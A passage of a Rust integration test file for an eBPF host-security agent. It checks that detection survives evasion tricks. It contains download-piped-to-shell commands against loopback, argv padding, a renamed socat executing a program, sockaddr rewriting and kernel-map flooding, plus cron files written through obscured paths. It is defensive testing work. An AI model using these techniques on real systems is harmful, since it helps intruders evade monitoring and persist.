//! Evasion resistance (issue 11, item 3), one adversarial test per technique: each does what an
//! attacker would to slip past the sensor or the detector, on a real kernel with the real eBPF
//! programs, and expects the finding anyway; a benign variant expects none.
//!
//! - a blocking connect whose sockaddr another thread rewrites while the handshake sleeps;
//! - a renamed copy of an installed tool, and a tool on a hash list;
//! - a command line padded past the exec record's bound;
//! - a flood of distinct connects before the one that matters;
//! - a flood of written files that evicts a dropped binary's writer from the kernel's map;
//! - a cron file written or moved into place by a path that is not the one the rules name (a
//!   relative path after `cd`, `//`, `.` and `..`, `/proc/self/root`, a directory fd, a symbolic
//!   link to the directory, a long `./././` prefix), or moved, linked, made executable or given
//!   away there through a symbolic link to the directory, `/proc/self/cwd` or `/proc/self/fd/N`
//!   (seen by fanotify on the directory that changed);
//! - one change seen by both file sensors raising each finding once.
//!
//! The comm-renaming technique (`printf dpkg > /proc/self/comm`) is tested with the other
//! persistence tests in `detection_techniques.rs` (`a_process_that_names_itself_dpkg_is_not_dpkg`).
//!
//! Root only (eBPF). Network activity stays on loopback.

mod support;

use std::{
    collections::BTreeMap,
    io::{BufRead, BufReader},
    net::TcpListener,
    os::{fd::AsRawFd, unix::fs::PermissionsExt},
    path::{Path, PathBuf},
    process::{Command, Stdio},
    sync::LazyLock,
    time::Duration,
};

use node_agent::{
    collector::{Collector, root_or_skip as privileged},
    detect::{Detector, NoLookup, RuleSet},
    event::{Event, ExecInfo},
    sensor::SensorOptions,
    tool_hashes,
};
use sha2::{Digest as _, Sha256};
use vigil_crds::finding::Finding;
use vigil_detection::{
    FindingType, IndicatorKind, IntelConfig, ListFormat, ListSource, ThreatIntel,
};

/// Generous: a busy machine can take long to hand events over.
const WAIT: Duration = Duration::from_secs(30);
const TRIGGER: &str = env!("CARGO_BIN_EXE_vigil-trigger");

static AGENT: LazyLock<Collector> = LazyLock::new(|| {
    Collector::start(SensorOptions::default()).expect("the sensor starts as root")
});

fn nonce() -> String {
    node_agent::collector::unique_name("ve")
}

/// A scratch directory outside the world-writable ones (programs run from /tmp are findings of
/// their own), removed when dropped.
struct Scratch(PathBuf);

impl Scratch {
    fn new(tag: &str) -> Self {
        let dir =
            Path::new(env!("CARGO_TARGET_TMPDIR")).join(format!("vigil-ev-{tag}-{}", nonce()));
        std::fs::create_dir_all(&dir).expect("scratch dir");
        std::fs::set_permissions(&dir, std::fs::Permissions::from_mode(0o755)).expect("chmod");
        Self(dir)
    }
}

impl Drop for Scratch {
    fn drop(&mut self) {
        let _ = std::fs::remove_dir_all(&self.0);
    }
}

/// Runs a command to completion; returns its pid and standard output.
fn run_out(cmd: &mut Command) -> (u32, String) {
    LazyLock::force(&AGENT);
    let child = support::spawn::spawn(
        cmd.stdin(Stdio::null())
            .stdout(Stdio::piped())
            .stderr(Stdio::null()),
    )
    .expect("spawn");
    let pid = child.id();
    let out = child.wait_with_output().expect("wait");
    (pid, String::from_utf8_lossy(&out.stdout).trim().to_owned())
}

fn run(cmd: &mut Command) -> u32 {
    run_out(cmd).0
}

/// A detector with the built-in rules, `intel`, and the installed tools' hashes, as the agent
/// builds it (`detect::host::build_detector`).
fn detector(intel: ThreatIntel) -> Detector {
    let rules = RuleSet::builtin().expect("built-in rules");
    let tools = tool_hashes::installed_on_host(rules.program_names());
    support::detection::detector_with(intel, None, rules).with_tool_hashes(tools.by_digest)
}

fn tree_events(root: u32) -> Vec<Event> {
    AGENT
        .tree_events(root, WAIT)
        .unwrap_or_else(|| panic!("no exec and exit of {root} within {WAIT:?}"))
}

/// The findings of the process tree rooted at `root`, one per id.
fn detect(root: u32, intel: ThreatIntel) -> Vec<Finding> {
    let mut d = detector(intel);
    let mut by_id: BTreeMap<String, Finding> = BTreeMap::new();
    for event in tree_events(root) {
        for outcome in d.process(&event, &NoLookup) {
            by_id.insert(outcome.finding.id.clone(), outcome.finding);
        }
    }
    by_id.into_values().collect()
}

fn rule(f: &Finding) -> &str {
    f.context
        .additional
        .get("ruleId")
        .map(String::as_str)
        .unwrap_or("")
}

/// `(type, ruleId)` of each finding, sorted.
fn kinds(found: &[Finding]) -> Vec<(String, String)> {
    let mut k: Vec<_> = found
        .iter()
        .map(|f| (f.finding_type.clone(), rule(f).to_owned()))
        .collect();
    k.sort();
    k
}

/// Intel from list files, as an operator configures it.
fn intel_from(dir: &Path, lists: &[(&str, IndicatorKind, &[&str], FindingType)]) -> ThreatIntel {
    let mut config = IntelConfig {
        builtin: false,
        ..IntelConfig::default()
    };
    for (name, kind, entries, feeds) in lists {
        let path = dir.join(format!("{name}.txt"));
        std::fs::write(&path, format!("# test list\n{}\n", entries.join("\n"))).expect("list");
        config.lists.push(ListSource {
            name: (*name).to_owned(),
            path,
            format: ListFormat::PlainText(*kind),
            feeds: vec![*feeds],
        });
    }
    let (intel, report) = vigil_detection::load(&config).expect("test intel loads");
    assert!(report.malformed.is_empty(), "{:?}", report.malformed);
    intel
}

fn c2_list(dir: &Path, ip: &str) -> ThreatIntel {
    intel_from(
        dir,
        &[(
            "test-c2",
            IndicatorKind::Ip,
            &[ip],
            FindingType::BackdoorCcActivityB,
        )],
    )
}

/// `vigil-trigger connect-rewrite` to a listener on `ip` whose accept queue is full, so the
/// connect sleeps in the handshake while the trigger's second thread rewrites the sockaddr to
/// an unlisted address; once rewritten, the queue is drained and the connect completes.
/// Returns the trigger's pid and the listener's port.
fn rewritten_connect(ip: &str) -> (u32, u16) {
    LazyLock::force(&AGENT);
    let listener = TcpListener::bind((ip, 0)).expect("bind a loopback address");
    // Backlog 0: one connection fills the queue, and SYNs past it are dropped (the client
    // retransmits, sleeping in connect meanwhile).
    // SAFETY: a valid listening socket.
    assert_eq!(
        unsafe { libc::listen(listener.as_raw_fd(), 0) },
        0,
        "listen"
    );
    let addr = listener.local_addr().expect("addr");
    // The filler comes from this process, which the sensor does not observe.
    let _filler = std::net::TcpStream::connect(addr).expect("fill the queue");
    let decoy = TcpListener::bind("127.0.0.1:0").expect("decoy");
    let decoy_addr = decoy.local_addr().expect("decoy addr");
    let mut child = Command::new(TRIGGER)
        .args([
            "connect-rewrite",
            &addr.to_string(),
            &decoy_addr.to_string(),
        ])
        .stdin(Stdio::null())
        .stdout(Stdio::piped())
        .stderr(Stdio::inherit())
        .spawn()
        .expect("spawn the trigger");
    let pid = child.id();
    let mut lines = BufReader::new(child.stdout.take().expect("stdout")).lines();
    let first = lines.next().and_then(Result::ok).unwrap_or_default();
    assert_eq!(first, "rewritten", "the connect never slept");
    // Make room: the next SYN retransmission completes the handshake.
    let _accepted = listener.accept().expect("accept the filler");
    let outcome = lines.next().and_then(Result::ok).unwrap_or_default();
    assert_eq!(outcome, "ok", "the connect to {addr}");
    child.wait().expect("wait");
    (pid, addr.port())
}

#[test]
fn a_connect_whose_sockaddr_is_rewritten_while_it_sleeps_is_still_seen() {
    if !privileged("a_connect_whose_sockaddr_is_rewritten_while_it_sleeps_is_still_seen") {
        return;
    }
    let dir = Scratch::new("rewrite");
    let listed = "127.66.11.1";
    let (pid, port) = rewritten_connect(listed);
    let found = detect(pid, c2_list(&dir.0, listed));
    assert_eq!(
        kinds(&found),
        [("Backdoor:Runtime/C&CActivity.B".to_owned(), String::new())]
    );
    let n = found[0].network.as_ref().expect("network");
    assert_eq!((n.remote_ip.as_str(), n.remote_port), (listed, port));
    // Benign: the same trick towards an unlisted address raises nothing.
    let (pid, _) = rewritten_connect("127.66.11.2");
    assert!(detect(pid, c2_list(&dir.0, listed)).is_empty());
}

#[test]
fn a_flood_of_distinct_connects_cannot_hide_a_later_c2_connect() {
    if !privileged("a_flood_of_distinct_connects_cannot_hide_a_later_c2_connect") {
        return;
    }
    let dir = Scratch::new("flood");
    let listed = "127.66.12.1";
    let listener = TcpListener::bind((listed, 0)).expect("bind");
    let addr = listener.local_addr().expect("addr");
    // More distinct connections than the kernel's repeat table holds (16,384).
    let (pid, out) =
        run_out(Command::new(TRIGGER).args(["connect-flood", "20000", &addr.to_string()]));
    assert_eq!(out, "ok");
    let found = detect(pid, c2_list(&dir.0, listed));
    let c2: Vec<_> = found
        .iter()
        .filter(|f| f.finding_type == "Backdoor:Runtime/C&CActivity.B")
        .collect();
    assert_eq!(c2.len(), 1, "{:?}", kinds(&found));
    let n = c2[0].network.as_ref().expect("network");
    assert_eq!((n.remote_ip.as_str(), n.remote_port), (listed, addr.port()));
}

#[test]
fn a_flood_of_written_files_cannot_hide_a_binary_dropped_before_it() {
    if !privileged("a_flood_of_written_files_cannot_hide_a_binary_dropped_before_it") {
        return;
    }
    let dir = Scratch::new("written-flood");
    // A detector with new binaries on for this host (off by default: GuardDuty's type is
    // for containers; the fallback is the same for both).
    let rules_dir = dir.0.join("rules");
    std::fs::create_dir_all(&rules_dir).expect("rules dir");
    std::fs::write(
        rules_dir.join("host.yaml"),
        "behaviour:\n  hostNewFiles: low\n",
    )
    .expect("rules");
    let rules = RuleSet::load(true, Some(&rules_dir)).expect("rules load");
    let mut d = support::detection::detector_with(ThreatIntel::empty(), None, rules);
    // The exec and what the detector made of it.
    let mut found = |pid: u32| -> (Option<Box<ExecInfo>>, Vec<Finding>) {
        let mut exec = None;
        let mut out = Vec::new();
        for event in tree_events(pid) {
            if let Event::Exec(e) = &event
                && e.process.pid == pid
            {
                exec = Some(e.clone());
            }
            out.extend(d.process(&event, &NoLookup).into_iter().map(|o| o.finding));
        }
        (exec, out)
    };
    let flood = dir.0.join("flood");
    std::fs::create_dir_all(&flood).expect("flood dir");
    // The kernel's LRU evicts approximately (per-CPU free lists, reference bits): twice the
    // map's size in new files evicts an entry written before them almost always, not always.
    // Each round drops a new binary, floods, runs it: every round must raise the finding, and
    // one must do so with the writer evicted (the fallback this test is about).
    let mut evicted_in = None;
    for round in 0..3 {
        // Dropped first: the kernel's written-files map records `cp` as its writer.
        let dropped = dir.0.join(format!("dropper-{round}"));
        assert_eq!(
            run_out(Command::new("cp").arg("/bin/true").arg(&dropped)).1,
            ""
        );
        // Then twice as many new files as the map holds, so its LRU evicts the dropper's entry.
        let n = 2 * node_agent_common::WRITTEN_FILES_MAX;
        let status = Command::new(TRIGGER)
            .args(["file-flood", flood.to_str().expect("utf-8"), &n.to_string()])
            .status()
            .expect("file-flood runs");
        assert!(status.success(), "file-flood: {status}");
        let (exec, all) = found(run(&mut Command::new(&dropped)));
        let exec = exec.expect("the dropper's exec");
        let new_binary: Vec<_> = all
            .into_iter()
            .filter(|f| f.finding_type == "Execution:Runtime/NewBinaryExecuted")
            .collect();
        assert_eq!(new_binary.len(), 1, "round {round}: {new_binary:?}");
        let f = &new_binary[0];
        assert_eq!(
            f.context.file_path.as_deref(),
            Some(dropped.to_str().expect("utf-8"))
        );
        if exec.written_by.is_some() {
            eprintln!(
                "round {round}: the kernel's LRU kept the dropper's writer through the flood \
                 ({:?}); the finding named it; again with a new file",
                exec.written_by
            );
            continue;
        }
        assert!(f.context.modified_at.is_some(), "{:?}", f.context);
        assert!(
            f.context
                .additional
                .get("writer")
                .is_some_and(|w| w.starts_with("unknown")),
            "{:?}",
            f.context.additional
        );
        evicted_in = Some(round);
        break;
    }
    assert!(
        evicted_in.is_some(),
        "three floods of twice the map's size never evicted a dropper's writer"
    );
    // A binary that has not changed since the agent started raises nothing, flood or not.
    let (_, old) = found(run(&mut Command::new("/bin/true")));
    assert!(
        !old.iter()
            .any(|f| f.finding_type == "Execution:Runtime/NewBinaryExecuted"),
        "{:?}",
        kinds(&old)
    );
}

/// The SHA-256 of a file, hex.
fn sha256_hex(path: &Path) -> String {
    Sha256::digest(std::fs::read(path).expect("read"))
        .iter()
        .map(|b| format!("{b:02x}"))
        .collect()
}

#[test]
fn a_renamed_copy_of_an_installed_tool_is_still_that_tool() {
    if !privileged("a_renamed_copy_of_an_installed_tool_is_still_that_tool") {
        return;
    }
    let Ok(socat) = std::fs::canonicalize("/usr/bin/socat") else {
        eprintln!("skipped: /usr/bin/socat is not installed (scripts/bootstrap.sh installs it)");
        assert!(std::env::var_os("CI").is_none(), "socat missing under CI");
        return;
    };
    let dir = Scratch::new("tool");
    let copy = dir.0.join("kworker-helper");
    std::fs::copy(&socat, &copy).expect("copy socat");
    std::fs::set_permissions(&copy, std::fs::Permissions::from_mode(0o755)).expect("chmod");
    // socat connecting a file to a program: what the rule tool-socat-exec is about.
    let pid = run(Command::new(&copy).args(["-u", "OPEN:/dev/null", "EXEC:/bin/true"]));
    let found = detect(pid, ThreatIntel::empty());
    // On failure, what the exec records said about the copy (its hash, or why there was none).
    let execs: Vec<String> = tree_events(pid)
        .iter()
        .filter_map(|e| match e {
            Event::Exec(x) => Some(format!(
                "{} exe={} sha256={:?} error={:?} argv={:?}",
                x.process.pid,
                x.exe.display(),
                x.sha256,
                x.sha256_error,
                x.argv
            )),
            _ => None,
        })
        .collect();
    assert_eq!(
        kinds(&found),
        [(
            "Execution:Runtime/SuspiciousTool".to_owned(),
            "tool-socat-exec".to_owned()
        )],
        "execs: {execs:#?}"
    );
    let extra = &found[0].context.additional;
    assert_eq!(
        (
            extra.get("identifiedBy").map(String::as_str),
            extra.get("contentOf").map(String::as_str)
        ),
        (Some("content"), Some("socat"))
    );
    // Benign: the same copy doing nothing the rule is about.
    let pid = run(Command::new(&copy).arg("-V"));
    assert!(detect(pid, ThreatIntel::empty()).is_empty());
}

/// A renamed copy of curl piped into a shell, as a line of a script: the pipe check knows the
/// downloader by its bytes (the installed curl's), not its name. The copy fetching into grep
/// raises nothing.
#[test]
fn a_renamed_copy_of_curl_piped_into_a_shell_is_still_a_download() {
    use std::{
        io::{BufRead as _, BufReader, Write as _},
        net::TcpListener,
    };
    if !privileged("a_renamed_copy_of_curl_piped_into_a_shell_is_still_a_download") {
        return;
    }
    let curl = std::fs::canonicalize("/usr/bin/curl").expect("curl is installed");
    let dir = Scratch::new("getter");
    let copy = dir.0.join("getter");
    std::fs::copy(&curl, &copy).expect("copy curl");
    std::fs::set_permissions(&copy, std::fs::Permissions::from_mode(0o755)).expect("chmod");
    let listener = TcpListener::bind("127.0.0.1:0").expect("bind 127.0.0.1");
    let addr = listener.local_addr().expect("local address");
    std::thread::spawn(move || {
        for stream in listener.incoming() {
            let Ok(mut stream) = stream else { continue };
            let mut line = String::new();
            let mut reader = BufReader::new(&stream);
            while reader.read_line(&mut line).is_ok_and(|n| n > 2) {
                line.clear();
            }
            let _ = stream.write_all(
                b"HTTP/1.0 200 OK\r\nContent-Length: 5\r\nConnection: close\r\n\r\ntrue\n",
            );
        }
    });
    let script = |name: &str, line: &str| {
        let path = dir.0.join(name);
        std::fs::write(&path, format!("#!/bin/bash\n{line}\n")).expect("script");
        run(Command::new("/bin/bash").arg(&path))
    };
    let getter = copy.display().to_string();
    let found = detect(
        script("pipe.sh", &format!("{getter} -s http://{addr}/x | sh")),
        ThreatIntel::empty(),
    );
    let piped: Vec<_> = found
        .iter()
        .filter(|f| rule(f) == "behaviour-download-pipe-exec")
        .collect();
    assert_eq!(piped.len(), 1, "{:?}", kinds(&found));
    assert_eq!(piped[0].context.additional["pipeWriter"], getter);
    let found = detect(
        script(
            "grep.sh",
            &format!("{getter} -s http://{addr}/x | grep -c true"),
        ),
        ThreatIntel::empty(),
    );
    assert!(
        found
            .iter()
            .all(|f| rule(f) != "behaviour-download-pipe-exec"),
        "{:?}",
        kinds(&found)
    );
}

#[test]
fn a_tool_on_a_hash_list_is_found_whatever_its_name() {
    if !privileged("a_tool_on_a_hash_list_is_found_whatever_its_name") {
        return;
    }
    let dir = Scratch::new("toolhash");
    // Two programs with their own bytes (trailing bytes keep an ELF runnable).
    let make = |name: &str| {
        let path = dir.0.join(name);
        let mut bytes = std::fs::read(std::fs::canonicalize("/bin/true").expect("true"))
            .expect("read /bin/true");
        bytes.extend_from_slice(format!("{name}{}", nonce()).as_bytes());
        std::fs::write(&path, &bytes).expect("write");
        std::fs::set_permissions(&path, std::fs::Permissions::from_mode(0o755)).expect("chmod");
        path
    };
    let (tool, miner, other) = (make("update"), make("cache"), make("helper"));
    let (tool_hash, miner_hash) = (sha256_hex(&tool), sha256_hex(&miner));
    let intel = || {
        intel_from(
            &dir.0,
            &[
                (
                    "test-tool-hashes",
                    IndicatorKind::Sha256,
                    &[tool_hash.as_str()],
                    FindingType::ExecutionSuspiciousTool,
                ),
                (
                    "test-miner-hashes",
                    IndicatorKind::Sha256,
                    &[miner_hash.as_str()],
                    FindingType::ImpactCryptoMinerExecuted,
                ),
            ],
        )
    };
    for (path, t, hash) in [
        (&tool, "Execution:Runtime/SuspiciousTool", &tool_hash),
        (&miner, "Impact:Runtime/CryptoMinerExecuted", &miner_hash),
    ] {
        let found = detect(run(&mut Command::new(path)), intel());
        assert_eq!(
            found
                .iter()
                .map(|f| f.finding_type.as_str())
                .collect::<Vec<_>>(),
            [t]
        );
        let evidence = &found[0]
            .evidence
            .as_ref()
            .expect("evidence")
            .threat_intelligence_details;
        assert_eq!(evidence[0].indicator, *hash);
    }
    assert!(detect(run(&mut Command::new(&other)), intel()).is_empty());
}

#[test]
fn a_command_padded_past_the_exec_record_still_raises() {
    if !privileged("a_command_padded_past_the_exec_record_still_raises") {
        return;
    }
    // 3,000 spaces, then the download piped into a shell (port 9 on loopback: refused at once).
    let padded = format!("{}; curl -s http://127.0.0.1:9/x | sh", " ".repeat(3000));
    let pid = run(Command::new("/bin/sh").args(["-c", &padded]));
    let found = detect(pid, ThreatIntel::empty());
    let k = kinds(&found);
    for want in [
        (
            "Execution:Runtime/SuspiciousCommand",
            "exec-download-pipe-shell",
        ),
        (
            "DefenseEvasion:Runtime/SuspiciousCommand",
            "behaviour-argv-padding",
        ),
    ] {
        assert!(
            k.iter().any(|(t, r)| t == want.0 && r == want.1),
            "{want:?} in {k:?}"
        );
    }
    let padding = found
        .iter()
        .find(|f| rule(f) == "behaviour-argv-padding")
        .expect("padding finding");
    // What the record kept of the run: the head's and the tail's spaces (the middle is gone).
    let kept = padding
        .context
        .additional
        .get("argvPadding")
        .expect("argvPadding");
    let (count, what) = kept.split_once(" x ").expect("N x BYTE");
    assert!(
        count.parse::<usize>().expect("count") >= 512 && what == "0x20",
        "{kept}"
    );
    // Benign: a long command line of distinct arguments (a compiler's, a linker's).
    let args: Vec<String> = (0..400).map(|i| format!("--opt-{i:04}")).collect();
    let pid = run(Command::new("/bin/true").args(&args));
    assert!(detect(pid, ThreatIntel::empty()).is_empty());
}

/// A cron file of the test's own, `/etc/cron.d/vigil-<tag>-<nonce>`, removed when dropped. The
/// tests write the real location (a comment line, never a job): the path forms are the point.
struct CronFile(PathBuf);

impl CronFile {
    fn new(tag: &str) -> Self {
        Self(PathBuf::from(format!(
            "/etc/cron.d/vigil-{tag}-{}",
            nonce()
        )))
    }

    fn name(&self) -> String {
        self.0
            .file_name()
            .expect("a file name")
            .to_string_lossy()
            .into_owned()
    }

    fn path(&self) -> String {
        self.0.display().to_string()
    }
}

impl Drop for CronFile {
    fn drop(&mut self) {
        let _ = std::fs::remove_file(&self.0);
    }
}

fn sh(script: &str) -> u32 {
    run(Command::new("/bin/sh").args(["-c", script]))
}

/// The findings of the process tree at `pid` include the file-level ones for `file` under its
/// real name, whatever path the process gave: `Persistence:Runtime/SensitiveFileModified` and
/// the persistence check `behaviour-persistence-cron` (both come from file records only; the
/// command-line rules name no file).
fn assert_cron_file_found(pid: u32, file: &CronFile, how: &str) {
    assert!(file.0.exists(), "{how}: {} was not written", file.path());
    let found = detect(pid, ThreatIntel::empty());
    let path = file.path();
    let names = |f: &Finding| f.context.file_path.as_deref() == Some(path.as_str());
    assert!(
        found
            .iter()
            .any(|f| names(f) && f.finding_type == "Persistence:Runtime/SensitiveFileModified"),
        "{how}: no SensitiveFileModified for {path}: {:?}",
        kinds(&found)
    );
    assert!(
        found
            .iter()
            .any(|f| names(f) && rule(f) == "behaviour-persistence-cron"),
        "{how}: no behaviour-persistence-cron for {path}: {:?}",
        kinds(&found)
    );
}

#[test]
fn a_cron_file_written_by_a_relative_path_after_chdir() {
    if !privileged("a_cron_file_written_by_a_relative_path_after_chdir") {
        return;
    }
    let file = CronFile::new("rel");
    let pid = sh(&format!(
        "cd /etc/cron.d && echo '# vigil test' > {}",
        file.name()
    ));
    assert_cron_file_found(pid, &file, "cd; echo > name");
    // And appended to by a relative path from the parent directory.
    let pid = sh(&format!(
        "cd /etc && echo '# vigil test' >> cron.d/{}",
        file.name()
    ));
    assert_cron_file_found(pid, &file, "cd /etc; echo >> cron.d/name");
}

#[test]
fn a_cron_file_written_through_double_slashes() {
    if !privileged("a_cron_file_written_through_double_slashes") {
        return;
    }
    let file = CronFile::new("slash");
    let pid = sh(&format!(
        "echo '# vigil test' > //etc//cron.d//{}",
        file.name()
    ));
    assert_cron_file_found(pid, &file, "//etc//cron.d//name");
}

#[test]
fn a_cron_file_written_through_dot_segments() {
    if !privileged("a_cron_file_written_through_dot_segments") {
        return;
    }
    let file = CronFile::new("dots");
    let pid = sh(&format!(
        "echo '# vigil test' > /etc/./cron.d/../cron.d/./{}",
        file.name()
    ));
    assert_cron_file_found(pid, &file, "/etc/./cron.d/../cron.d/./name");
}

#[test]
fn a_cron_file_written_through_proc_self_root() {
    if !privileged("a_cron_file_written_through_proc_self_root") {
        return;
    }
    let file = CronFile::new("procroot");
    let pid = sh(&format!(
        "echo '# vigil test' > /proc/self/root/etc/cron.d/{}",
        file.name()
    ));
    assert_cron_file_found(pid, &file, "/proc/self/root/etc/cron.d/name");
}

#[test]
fn a_cron_file_written_with_openat_and_a_directory_fd() {
    if !privileged("a_cron_file_written_with_openat_and_a_directory_fd") {
        return;
    }
    let file = CronFile::new("dirfd");
    let script = format!(
        "import os\n\
         d = os.open('/etc/cron.d', os.O_RDONLY | os.O_DIRECTORY)\n\
         f = os.open('{}', os.O_WRONLY | os.O_CREAT | os.O_TRUNC, 0o644, dir_fd=d)\n\
         os.write(f, b'# vigil test\\n')\n",
        file.name()
    );
    let pid = run(Command::new("/usr/bin/python3").args(["-c", &script]));
    assert_cron_file_found(pid, &file, "openat(dirfd, name)");
}

#[test]
fn a_cron_file_written_through_a_symlinked_directory() {
    if !privileged("a_cron_file_written_through_a_symlinked_directory") {
        return;
    }
    let scratch = Scratch::new("symlink");
    let link = scratch.0.join("jobs");
    std::os::unix::fs::symlink("/etc/cron.d", &link).expect("symlink");
    let file = CronFile::new("symdir");
    let pid = sh(&format!(
        "echo '# vigil test' > {}/{}",
        link.display(),
        file.name()
    ));
    assert_cron_file_found(pid, &file, "a link to /etc/cron.d");
    // Benign: the same link form into a directory of no interest raises nothing.
    let elsewhere = scratch.0.join("elsewhere");
    std::fs::create_dir(&elsewhere).expect("mkdir");
    let other = scratch.0.join("other");
    std::os::unix::fs::symlink(&elsewhere, &other).expect("symlink");
    let pid = sh(&format!("echo x > {}/notes", other.display()));
    let found = detect(pid, ThreatIntel::empty());
    assert!(found.is_empty(), "{:?}", kinds(&found));
}

#[test]
fn a_cron_file_written_after_a_long_dot_slash_prefix() {
    if !privileged("a_cron_file_written_after_a_long_dot_slash_prefix") {
        return;
    }
    let file = CronFile::new("dotslash");
    // 600 bytes of `./`: far past the 256 bytes of a path the kernel reads from the process.
    let pid = sh(&format!(
        "cd /etc/cron.d && echo '# vigil test' > {}{}",
        "./".repeat(300),
        file.name()
    ));
    assert_cron_file_found(pid, &file, "././.../name");
    let pid = sh(&format!(
        "echo '# vigil test' > /etc/cron.d/{}{}",
        "./".repeat(300),
        file.name()
    ));
    assert_cron_file_found(pid, &file, "/etc/cron.d/././.../name");
}

#[test]
fn a_cron_file_moved_into_place_by_paths_the_rules_do_not_name() {
    if !privileged("a_cron_file_moved_into_place_by_paths_the_rules_do_not_name") {
        return;
    }
    let scratch = Scratch::new("mv");
    let staged = scratch.0.join("job");
    let stage = || std::fs::write(&staged, "# vigil test\n").expect("stage");
    let staged = staged.display().to_string();
    // The destination does not exist before the rename: these are matched on the string,
    // joined to the directory the kernel holds, or normalised in user space.
    let cases = [
        ("relative", "cd /etc/cron.d && mv STAGED ./NAME"),
        ("dots", "mv STAGED /etc//cron.d/../cron.d/NAME"),
        ("proc-root", "mv STAGED /proc/self/root/etc/cron.d/NAME"),
        ("parent", "cd /etc/cron.d/.. && mv STAGED cron.d/NAME"),
    ];
    for (tag, script) in cases {
        stage();
        let file = CronFile::new(&format!("mv-{tag}"));
        let pid = sh(&script
            .replace("STAGED", &staged)
            .replace("NAME", &file.name()));
        assert_cron_file_found(pid, &file, tag);
    }
    // A directory fd: renameat(AT_FDCWD, staged, dirfd, name).
    stage();
    let file = CronFile::new("mv-dirfd");
    let script = format!(
        "import os\n\
         d = os.open('/etc/cron.d', os.O_RDONLY | os.O_DIRECTORY)\n\
         os.rename('{staged}', '{}', dst_dir_fd=d)\n",
        file.name()
    );
    let pid = run(Command::new("/usr/bin/python3").args(["-c", &script]));
    assert_cron_file_found(pid, &file, "renameat(dirfd)");
}

/// The findings of `pid`'s tree that name `file`, by check (`type` or `type ruleId`), with the
/// count each reached.
fn counts_naming(pid: u32, file: &CronFile) -> Vec<(String, u64)> {
    let path = file.path();
    detect(pid, ThreatIntel::empty())
        .into_iter()
        .filter(|f| f.context.file_path.as_deref() == Some(path.as_str()))
        .map(|f| (format!("{} {}", f.finding_type, rule(&f)), f.count))
        .collect()
}

#[test]
fn a_cron_file_moved_or_linked_through_a_symbolic_link_to_the_directory() {
    if !privileged("a_cron_file_moved_or_linked_through_a_symbolic_link_to_the_directory") {
        return;
    }
    // Renames and links are seen by fanotify on the directory that changed (file_dirents):
    // the path string names /tmp-like places the kernel's prefix filter never matches.
    let scratch = Scratch::new("dirents");
    let link = scratch.0.join("jobs");
    std::os::unix::fs::symlink("/etc/cron.d", &link).expect("symlink");
    let staged = scratch.0.join("job");
    let stage = || std::fs::write(&staged, "# vigil test\n").expect("stage");
    let link = link.display().to_string();
    let staged_text = staged.display().to_string();
    for (tag, script) in [
        ("mv", "mv STAGED LINK/NAME"),
        ("ln", "ln STAGED LINK/NAME"),
        ("cwd", "cd /etc/cron.d && mv STAGED /proc/self/cwd/NAME"),
    ] {
        stage();
        let file = CronFile::new(&format!("dirent-{tag}"));
        let pid = sh(&script
            .replace("STAGED", &staged_text)
            .replace("LINK", &link)
            .replace("NAME", &file.name()));
        assert_cron_file_found(pid, &file, tag);
        let _ = std::fs::remove_file(&staged);
    }
    // Through /proc/self/fd/N of a descriptor of the directory.
    stage();
    let file = CronFile::new("dirent-fd");
    let script = format!(
        "import os\n\
         d = os.open('/etc/cron.d', os.O_RDONLY | os.O_DIRECTORY)\n\
         os.rename('{staged_text}', '/proc/self/fd/%d/{}' % d)\n",
        file.name()
    );
    let pid = run(Command::new("/usr/bin/python3").args(["-c", &script]));
    assert_cron_file_found(pid, &file, "/proc/self/fd/N");
    // Made executable, and given away, through the link: fanotify's attribute change, told
    // from a time change by the mode and owner the agent knew before.
    let file = CronFile::new("dirent-chmod");
    let made = sh(&format!(
        "umask 022; echo '# vigil test' > /etc/cron.d/{}",
        file.name()
    ));
    // Once the writer's tree is in, the agent has read the creation (fanotify is read after
    // the ring buffer) and knows the mode before the chmod.
    tree_events(made);
    let pid = sh(&format!("chmod 755 {link}/{}", file.name()));
    assert_cron_file_found(pid, &file, "chmod through the link");
    let pid = sh(&format!("chown nobody {link}/{}", file.name()));
    let found = detect(pid, ThreatIntel::empty());
    assert!(
        found.iter().any(
            |f| f.context.file_path.as_deref() == Some(file.path().as_str())
                && f.finding_type == "Persistence:Runtime/SensitiveFileModified"
                && f.context.file_operation.as_deref() == Some("chown")
        ),
        "chown through the link: {:?}",
        kinds(&found)
    );
    // Setting its times (utimensat, no open; `touch` opens it for writing) is no chmod:
    // nothing.
    let pid = run(Command::new("/usr/bin/python3").args([
        "-c",
        &format!("import os; os.utime('{link}/{}', (0, 0))", file.name()),
    ]));
    let found = detect(pid, ThreatIntel::empty());
    assert!(found.is_empty(), "utime: {:?}", kinds(&found));
    drop(file);
    // Benign: the same moves through a link to a directory of no interest raise nothing.
    let elsewhere = scratch.0.join("elsewhere");
    std::fs::create_dir(&elsewhere).expect("mkdir");
    let other = scratch.0.join("other");
    std::os::unix::fs::symlink(&elsewhere, &other).expect("symlink");
    for script in ["mv STAGED OTHER/notes", "ln STAGED OTHER/notes2"] {
        stage();
        let pid = sh(&script
            .replace("STAGED", &staged_text)
            .replace("OTHER", &other.display().to_string()));
        let found = detect(pid, ThreatIntel::empty());
        assert!(found.is_empty(), "{script}: {:?}", kinds(&found));
    }
}

#[test]
fn a_plain_move_into_cron_d_raises_each_finding_once() {
    if !privileged("a_plain_move_into_cron_d_raises_each_finding_once") {
        return;
    }
    // Both file sensors see this one (the path string names /etc/cron.d, and fanotify sees the
    // directory change): one change, one record, each finding at count 1.
    let scratch = Scratch::new("once");
    let staged = scratch.0.join("job");
    for round in 0..3 {
        std::fs::write(&staged, "# vigil test\n").expect("stage");
        let file = CronFile::new(&format!("once{round}"));
        let pid = sh(&format!("mv {} {}", staged.display(), file.path()));
        assert_cron_file_found(pid, &file, "mv by its canonical path");
        let counts = counts_naming(pid, &file);
        let sensitive: Vec<_> = counts
            .iter()
            .filter(|(k, _)| k.starts_with("Persistence:Runtime/SensitiveFileModified"))
            .collect();
        let cron: Vec<_> = counts
            .iter()
            .filter(|(k, _)| k.ends_with("behaviour-persistence-cron"))
            .collect();
        assert_eq!(sensitive.len(), 1, "{counts:?}");
        assert_eq!(sensitive[0].1, 1, "one change, count 1: {counts:?}");
        assert_eq!(cron.len(), 1, "{counts:?}");
        assert_eq!(cron[0].1, 1, "one change, count 1: {counts:?}");
        // And the events themselves: one rename of the file, whichever sensor's.
        let renames = tree_events(pid)
            .into_iter()
            .filter(|e| {
                matches!(e, Event::File(f) if f.operation == "rename"
                    && f.resolved_path2.as_deref() == Some(file.0.as_path()))
